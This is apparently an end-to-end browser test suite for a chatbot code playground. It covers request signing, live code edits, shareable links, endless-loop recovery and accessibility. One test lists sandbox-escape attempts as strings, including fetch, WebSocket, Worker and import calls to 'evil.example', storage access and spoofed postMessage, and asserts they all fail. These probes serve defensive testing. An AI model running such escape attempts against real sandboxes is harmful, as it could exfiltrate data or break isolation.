import { gzipSync } from "node:zlib";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { hasChromium, launchOptions } from "@ck-test/chromium";
import type { AxeResults } from "axe-core";
import { chromium, type Browser, type BrowserContext, type Locator, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { toFragment } from "../src/code/link.js";
import { buildPlayground, type BuiltPlayground } from "./built-playground.js";

let built: BuiltPlayground;
beforeAll(async () => {
  built = await buildPlayground();
});
afterAll(() => built.close());

it("is under 400 kB before the editor opens", () => {
  const isLater = (file: string): boolean => /code-mirror|licenses/.test(file);
  const sizes = built.files.filter((file) => !isLater(file)).map((file) => gzipSync(built.read(file)).byteLength);
  expect(built.files.filter(isLater)).toHaveLength(2);
  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(400_000);
});

describe.skipIf(!hasChromium)("in Chromium", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch(launchOptions);
  });
  afterAll(() => browser.close());

  /** The playground as a reader uses it. */
  interface Opened {
    readonly page: Page;
    readonly context: BrowserContext;
    /** What the browser complained about. */
    readonly complaints: readonly string[];
    /** What was asked for, but for the playground's own files. */
    readonly foreign: readonly string[];
    readonly editor: Locator;
    /** Replaces all of the code. */
    readonly write: (code: string) => Promise<void>;
    readonly status: Locator;
    /** Waits until the bot of this name is the one that runs. */
    readonly runs: (name: string) => Promise<void>;
    readonly say: (text: string) => Promise<void>;
    readonly said: (text: string) => Locator;
  }

  async function open(fragment = "", width = 1440): Promise<Opened> {
    const context = await browser.newContext({
      viewport: { width, height: 900 },
      permissions: ["clipboard-read", "clipboard-write"],
      reducedMotion: "reduce",
    });
    const page = await context.newPage();
    page.setDefaultTimeout(30_000);
    const complaints: string[] = [];
    const foreign: string[] = [];
    page.on("pageerror", ({ message }) => complaints.push(message));
    page.on("console", (message) => {
      // Chromium itself puts a style on the line where a selection was replaced, and forbids itself to.
      const isOwn = message.text().startsWith("Applying inline style");
      if (message.type() === "error" && !isOwn) complaints.push(message.text());
    });
    await context.route("**", async (route) => {
      const url = route.request().url();
      const isOwn = built.files.some((file) => url === built.url + file) || url.split("#")[0] === built.url;
      if (!isOwn) foreign.push(url);
      await (isOwn ? route.continue() : route.abort());
    });
    await page.goto(built.url + fragment);
    const editor = page.getByRole("textbox", { name: "bot.ts" });
    return {
      page,
      context,
      complaints,
      foreign,
      editor,
      async write(code) {
        await editor.click();
        await page.keyboard.press("Control+A");
        await page.keyboard.insertText(code);
      },
      status: page.locator(".code-status > p"),
      runs: (name) => page.getByRole("heading", { name }).waitFor(),
      async say(text) {
        await page.getByRole("textbox", { name: "Message" }).fill(text);
        await page.keyboard.press("Enter");
      },
      said: (text) => page.getByRole("log").getByText(text),
    };
  }

  const botWith = (more: string, name = "small_bot"): string => `import { action, createBot } from "@ck/bot";
export const bot = createBot({
  name: "${name}",
  actions: { Hours: action({ sentences: ["opening hours"], execute: () => "From 9 to 17." }) },
  welcome: () => "Hello!",
  ${more}
});
`;

  it("signs each request, shows it, and asks nobody else for anything", async () => {
    const { page, context, complaints, foreign, say, said } = await open();
    await said("I can book leave.").waitFor();
    await say("Apply for leave");
    await page.getByRole("button", { name: "Sick leave" }).click();
    await page.getByRole("button", { name: "Submit" }).click();
    await say("2030-05-06");
    await say("2");
    await said("days of sick leave from").waitFor();
    const detail = page.getByRole("article", { name: /^Exchange/ });
    await detail.getByText("valid", { exact: true }).waitFor();
    await page.getByRole("tab", { name: "Bot" }).click();
    await page.getByRole("button", { name: "Rotate key" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Make a new key" }).click();
    await page.getByText("An older key than that of development.").waitFor();
    // The bot is told the new key.
    await say("How much is left?");
    await said("earned: 12").waitFor();
    expect([complaints, foreign]).toEqual([[], []]);
    await context.close();
  });

  it("runs an edit at once, and the chat goes on", async () => {
    const { context, complaints, write, runs, say, said } = await open();
    await said("I can book leave.").waitFor();
    await write(botWith('fallback: ({ userInput }) => "First: " + userInput,'));
    await runs("small_bot");
    await said("I can book leave.").waitFor();
    await say("opening hours");
    await said("From 9 to 17.").waitFor();
    await say("anything");
    await said("First: anything").waitFor();
    await write(botWith('fallback: ({ userInput }) => "Second: " + userInput', "second_bot"));
    await runs("second_bot");
    await say("again");
    await said("Second: again").waitFor();
    await said("First: anything").waitFor();
    expect(complaints).toEqual([]);
    await context.close();
  });

  it("says what is wrong with an edit, and the bot before it goes on", async () => {
    const { context, write, status, say, said } = await open();
    await said("I can book leave.").waitFor();
    for (const [code, problem] of [
      ["export const bot = createBot({", /bot\.ts:1:31/],
      ['import { x } from "left-pad"; x();', /There is no "left-pad" in the playground/],
      ["export const bot = 1;", /Export the bot/],
      ["null.x;", /null.*bot\.ts:1/],
      [botWith("fallbak: () => 1"), /fallbak/],
    ] as const) {
      await write(code);
      await status.getByText(problem).waitFor();
    }
    await say("How much is left?");
    await said("earned: 12").waitFor();
    await context.close();
  });

  it("puts the code into a link, and runs the code of a link only when the reader says so", async () => {
    const first = await open();
    await first.said("I can book leave.").waitFor();
    const code = botWith('fallback: () => "Zoë 🌴 sent me."');
    await first.write(code);
    await first.page.getByRole("button", { name: "Copy link" }).click();
    await first.page.getByText("The link is copied.").waitFor();
    const link = await first.page.evaluate(() => navigator.clipboard.readText());
    await first.context.close();

    const { page, context, editor, status, say, said } = await open(new URL(link).hash);
    await page.getByText("Nothing of it has run.").waitFor();
    await editor.getByText("Zoë 🌴 sent me.").waitFor();
    await status.getByText("Waiting for you").waitFor();
    expect(await page.getByRole("textbox", { name: "Message" }).count()).toBe(0);
    await page.getByRole("button", { name: "Run it" }).click();
    await said("Hello!").waitFor();
    await say("who?");
    await said("Zoë 🌴 sent me.").waitFor();
    await context.close();
  });

  it("shows a sample instead of a damaged link", async () => {
    for (const fragment of ["#code=AAAA", `#code=${"A".repeat(100_000)}`]) {
      const { page, context, said } = await open(fragment);
      await page.getByText("The link is damaged or too long").waitFor();
      await said("I can book leave.").waitFor();
      await context.close();
    }
  });

  it("lets no code reach a network, the page or its address", async () => {
    const attempts = [
      'fetch("https://evil.example/fetch")',
      'fetch("/some/where/index.html").then(() => { throw new Error("read a file"); })',
      'new Promise((_, no) => { const s = new WebSocket("wss://evil.example/socket"); s.onerror = no; s.onopen = () => console.log("LEAK socket"); })',
      'importScripts("https://evil.example/script.js")',
      'import("https://evil.example/module.js")',
      'new EventSource("https://evil.example/events")',
      'new Worker("https://evil.example/worker.js")',
      'new Worker(URL.createObjectURL(new Blob(["fetch(\\"https://evil.example/nested\\")"])))',
      "localStorage.length",
      'indexedDB.open("x")',
      'postMessage({ type: "start", id: 1 })',
      'postMessage("ready")',
    ];
    const code = `const attempts = [${attempts.map((attempt) => `async () => ${attempt}`).join(",\n")}];
for (const attempt of attempts) {
  try { await Promise.race([attempt(), new Promise((_, no) => setTimeout(no, 300))]); } catch (error) { console.log("stopped"); }
}
${botWith('fallback: () => "Still here."')}`;
    const { page, context, foreign, say, said } = await open(await toFragment(code));
    await page.getByRole("button", { name: "Run it" }).click();
    await said("Hello!").waitFor();
    await say("x");
    await said("Still here.").waitFor();
    expect(await page.locator(".code-status pre").textContent()).not.toContain("LEAK");
    expect(foreign.filter((url) => !url.startsWith("blob:null/"))).toEqual([]);
    expect(page.url()).toBe(built.url);
    await context.close();
  });

  it("runs nothing for a page that frames its sandbox without a sandbox", async () => {
    const { page, context, said } = await open();
    await said("I can book leave.").waitFor();
    const [own] = page.workers();
    await page.evaluate(`new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.src = "sandbox.html";
      addEventListener("message", ({ source, data }) => {
        if (source !== frame.contentWindow || data !== "ready") return;
        source.postMessage({ type: "start", id: 1 }, "*", [new MessageChannel().port2]);
        // Handled after the message before it.
        source.addEventListener("message", ({ data }) => data === "next" && resolve(undefined));
        source.postMessage("next", "*");
      });
      document.body.append(frame);
    })`);
    expect(page.workers()).toEqual([own]);
    await context.close();
  });

  it("survives an endless loop, while the bot loads and while it answers", async () => {
    const { context, write, status, runs, say, said } = await open();
    await said("I can book leave.").waitFor();
    await write("for (;;);");
    await status.getByText("Is there an endless loop?").waitFor();
    await say("How much is left?");
    await said("earned: 12").waitFor();
    await write(botWith('fallback: () => { for (;;) console.log("again and again"); }'));
    await runs("small_bot");
    await say("loop");
    await status.getByText("so it was started again").waitFor();
    await say("opening hours");
    await said("From 9 to 17.").waitFor();
    await context.close();
  });

  it.each([360, 820, 1440])("fits a width of %i pixels, and axe finds nothing serious", async (width) => {
    const { page, context, said } = await open("", width);
    await said("I can book leave.").waitFor();
    await page.locator(".cm-editor").waitFor();
    const overflow = await page.evaluate<number>(
      "document.documentElement.scrollWidth - document.documentElement.clientWidth",
    );
    const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
    await page.evaluate(`${axe};undefined`);
    const { violations } = await page.evaluate<AxeResults>("axe.run(document, { resultTypes: ['violations'] })");
    const faults = violations
      .filter(({ impact }) => impact === "serious" || impact === "critical")
      .map(({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(" ")).join(" | ")}`);
    expect({ overflow, faults }).toEqual({ overflow: 0, faults: [] });
    await context.close();
  });
});
